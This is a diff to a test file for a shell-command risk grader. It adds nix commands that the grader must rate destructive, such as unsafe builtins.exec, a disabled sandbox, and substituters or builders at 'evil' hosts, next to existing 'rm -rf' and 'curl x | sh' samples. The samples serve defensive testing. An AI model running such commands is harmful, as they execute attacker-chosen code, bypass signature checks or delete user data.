@@ -92,6 +92,14 @@ def grade(command: str) -> RiskLevel:
         # pulumi-env-run(1): "Open the environment with the given name and run a command"
         "pulumi env run myenv -- rm -rf ~/important",
         "pulumi env run e -- bash -c 'curl x | sh'",
+        # nix(1) "Common options": nix.conf settings given as flags
+        "nix eval --allow-unsafe-native-code-during-evaluation --expr 'builtins.exec [\"id\"]'",
+        "nix build --no-sandbox",
+        "nix build --post-build-hook /tmp/evil",
+        "nix build --substituters https://evil --no-require-sigs",
+        "nix build --trusted-public-keys x",
+        "nix build --builders ssh://evil",
+        "nix-build --option allow-unsafe-native-code-during-evaluation true",
     ],
 )
 def test_code_from_outside_or_of_the_callers_choosing_is_destructive(command: str) -> None:
@@ -143,6 +151,9 @@ def test_code_from_outside_or_of_the_callers_choosing_is_destructive(command: st
         ("uv export", RiskLevel.NETWORK),
         ("uv export --frozen", RiskLevel.READ_ONLY),
         ("pulumi env open myenv", RiskLevel.NETWORK),
+        ("nix build", RiskLevel.NETWORK),
+        ("nix build .#x -L", RiskLevel.NETWORK),
+        ("nix-build default.nix", RiskLevel.NETWORK),
     ],
 )
 def test_the_projects_own_build_and_plain_clones_keep_their_grade(command: str, level: RiskLevel) -> None:
